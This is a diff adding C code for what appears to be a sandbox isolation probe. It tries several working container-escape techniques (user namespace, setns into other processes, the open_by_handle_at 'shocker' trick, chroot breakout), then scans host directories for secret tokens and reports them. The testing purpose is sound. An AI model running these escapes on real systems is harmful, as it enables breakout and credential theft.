@@ -1,0 +1,184 @@
+/* mount-escape: try to leave the view, then read what the platform keeps.
+ * Each technique runs in a child, so that a success changes nothing of ours;
+ * the child sends back the tokens its scan found. */
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "probe.h"
+#include "report.h"
+#include "walk.h"
+
+typedef int (*escape_fn)(struct probe *p, char *root, size_t len);
+
+/* After an escape, look where the platform's secrets are kept. */
+static void scan_view(struct probe *p, const char *root)
+{
+  static const char *const places[] = { "platform", "tmp", "root", "home", "dev/shm", "run" };
+  char path[4096];
+
+  for (size_t i = 0; i < sizeof places / sizeof places[0]; i++)
+    {
+      snprintf(path, sizeof path, "%s/%s", strcmp(root, "/") == 0 ? "" : root, places[i]);
+      probe_walk(p, "escaped-read", path, 4, 2000);
+    }
+}
+
+static int mount_tmpfs(struct probe *p, char *root, size_t len)
+{
+  char dir[] = "/tmp/splitbox-probe-XXXXXX";
+  int ok;
+
+  (void)root;
+  (void)len;
+  if (mkdtemp(dir) == NULL)
+    return -1;
+  ok = mount("tmpfs", dir, "tmpfs", 0, NULL) == 0;
+  probe_attempt(p, "mount", dir, ok, errno, NULL);
+  if (ok)
+    probe_attempt(p, "umount", dir, umount2(dir, MNT_DETACH) == 0, errno, NULL);
+  rmdir(dir);
+  return -1; /* a mount of our own reveals nothing by itself */
+}
+
+static int new_userns(struct probe *p, char *root, size_t len)
+{
+  int ok = unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
+
+  probe_attempt(p, "unshare(CLONE_NEWUSER|CLONE_NEWNS)", "self", ok, errno, NULL);
+  if (!ok)
+    return -1;
+  ok = mount("proc", "/proc", "proc", 0, NULL) == 0;
+  probe_attempt(p, "mount proc in a new user namespace", "/proc", ok, errno, NULL);
+  snprintf(root, len, "/");
+  return 0;
+}
+
+static int join_victim(struct probe *p, char *root, size_t len)
+{
+  for (int i = 0; i < p->n_targets; i++)
+    {
+      char path[64];
+      int user, mnt;
+      snprintf(path, sizeof path, "/proc/%d/ns/user", (int)p->targets[i]);
+      user = open(path, O_RDONLY | O_CLOEXEC);
+      snprintf(path, sizeof path, "/proc/%d/ns/mnt", (int)p->targets[i]);
+      mnt = open(path, O_RDONLY | O_CLOEXEC);
+      probe_attempt(p, "open ns", path, mnt >= 0, errno, NULL);
+      if (user >= 0)
+        setns(user, CLONE_NEWUSER); /* fails harmlessly when it is our own */
+      if (mnt >= 0 && setns(mnt, CLONE_NEWNS) == 0)
+        {
+          probe_attempt(p, "setns(mnt)", path, true, 0, NULL);
+          snprintf(root, len, "/");
+          return 0;
+        }
+      probe_attempt(p, "setns(mnt)", path, false, errno, NULL);
+    }
+  if (p->n_targets == 0)
+    probe_attempt(p, "setns(mnt)", "victim", false, ESRCH, "no process carries the marker");
+  return -1;
+}
+
+/* The "shocker" technique: a handle for inode 2, the root of the filesystem. */
+static int by_handle(struct probe *p, char *root, size_t len)
+{
+  struct
+  {
+    struct file_handle h;
+    unsigned char bytes[128];
+  } fh;
+  int mount_id, mount_fd, fd;
+  unsigned int ino = 2, gen = 0;
+
+  fh.h.handle_bytes = sizeof fh.bytes;
+  if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mount_id, 0) != 0)
+    {
+      probe_attempt(p, "name_to_handle_at", "/", false, errno, NULL);
+      return -1;
+    }
+  fh.h.handle_bytes = 8;
+  fh.h.handle_type = 1; /* FILEID_INO32_GEN */
+  memcpy(fh.h.f_handle, &ino, 4);
+  memcpy(fh.h.f_handle + 4, &gen, 4);
+  mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  fd = open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY);
+  probe_attempt(p, "open_by_handle_at", "inode 2", fd >= 0, errno, NULL);
+  if (fd < 0 || fchdir(fd) != 0 || chroot(".") != 0)
+    return -1;
+  snprintf(root, len, "/");
+  return 0;
+}
+
+static int chroot_breakout(struct probe *p, char *root, size_t len)
+{
+  char dir[] = "/tmp/splitbox-probe-XXXXXX";
+  int ok;
+
+  if (mkdtemp(dir) == NULL)
+    return -1;
+  ok = chroot(dir) == 0;
+  probe_attempt(p, "chroot", dir, ok, errno, NULL);
+  rmdir(dir);
+  if (!ok)
+    return -1;
+  for (int i = 0; i < 64; i++)
+    if (chdir("..") != 0)
+      break;
+  ok = chroot(".") == 0;
+  probe_attempt(p, "chroot(\"..\"*64)", "/", ok, errno, NULL);
+  snprintf(root, len, "/");
+  return ok ? 0 : -1;
+}
+
+static void in_child(struct probe *p, const char *name, escape_fn fn)
+{
+  int fds[2];
+  pid_t pid;
+
+  if (pipe(fds) != 0)
+    return;
+  pid = fork();
+  if (pid == 0)
+    {
+      char root[4096];
+      close(fds[0]);
+      if (fn(p, root, sizeof root) == 0)
+        scan_view(p, root);
+      /* Hand our attempts and tokens to the parent as one report. */
+      FILE *f = fdopen(fds[1], "w");
+      report_print(f, name, p, "ran", NULL);
+      fclose(f);
+      _exit(0);
+    }
+  close(fds[1]);
+  {
+    static char buf[1 << 20];
+    size_t got = 0;
+    ssize_t n;
+    while (got < sizeof buf && (n = read(fds[0], buf + got, sizeof buf - got)) > 0)
+      got += (size_t)n;
+    /* The child's report carries its tokens; scanning it adds them to ours. */
+    probe_scan(p, buf, got);
+    probe_attempt(p, name, "child", pid > 0, errno, "%.*s", (int)(got > 1500 ? 1500 : got), buf);
+  }
+  close(fds[0]);
+  if (pid > 0)
+    waitpid(pid, NULL, 0);
+}
+
+void probe_mount_escape(struct probe *p)
+{
+  in_child(p, "mount", mount_tmpfs);
+  in_child(p, "userns", new_userns);
+  in_child(p, "setns", join_victim);
+  in_child(p, "open_by_handle_at", by_handle);
+  in_child(p, "chroot", chroot_breakout);
+}
